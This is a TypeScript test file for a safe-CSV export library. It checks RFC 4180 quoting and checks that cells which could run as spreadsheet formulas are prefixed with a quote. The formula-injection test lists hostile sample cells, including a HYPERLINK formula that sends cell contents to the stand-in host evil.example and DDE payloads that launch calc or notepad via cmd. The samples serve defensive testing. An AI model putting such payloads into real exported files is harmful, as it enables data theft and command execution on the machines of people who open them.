import t from 'tap';
import { parse } from 'csv-parse/sync';
import { neutraliseFormula, toCsv } from '../../src/lib/safe-csv.js';

t.test('RFC 4180: commas, quotes and line breaks are quoted, records end in CRLF, empty cells stay empty', async (t) => {
  const csv = toCsv([
    ['name', 'note', 'count'],
    ['Nour, Al-Huda', 'said "hello"', 3],
    ['line\nbreak', null, undefined],
    ['李华', 'نور', 0],
  ]);
  t.equal(
    csv,
    'name,note,count\r\n"Nour, Al-Huda","said ""hello""",3\r\n"line\nbreak",,\r\n李华,نور,0\r\n',
  );
  // an independent parser reads back exactly what went in
  t.same(parse(csv), [
    ['name', 'note', 'count'],
    ['Nour, Al-Huda', 'said "hello"', '3'],
    ['line\nbreak', '', ''],
    ['李华', 'نور', '0'],
  ]);
  t.equal(toCsv([]), '', 'no rows, no text');
});

t.test('formula injection: every cell a spreadsheet would run is prefixed with a single quote', async (t) => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    '+1+cmd|\' /C calc\'!A0',
    '-2+3',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
    '=cmd|\' /C notepad\'!\'A1\'',
  ];
  const csv = toCsv([hostile]);
  const [cells] = parse(csv, { relax_quotes: true }) as string[][];
  t.equal(cells?.length, hostile.length);
  cells?.forEach((cell, i) => {
    t.equal(cell, `'${hostile[i]}`, `cell ${i} is the original text behind a quote`);
    t.notMatch(cell, /^[=+\-@\t\r]/, `cell ${i} no longer starts like a formula`);
  });
  t.equal(toCsv([[-5]]), "'-5\r\n", 'a negative number is guarded too: the text is the same, and it is never a formula');
});

t.test('harmless text is left alone, including formula characters after the first one', async (t) => {
  for (const text of ['Nour Al-Huda', 'a=b', 'x+y@z', "'quoted", ' =1+1', 'نور الهدى', '']) {
    t.equal(neutraliseFormula(text), text, JSON.stringify(text));
  }
  t.equal(toCsv([['user@example.org', 'https://example.org/?a=1']]), 'user@example.org,https://example.org/?a=1\r\n');
});
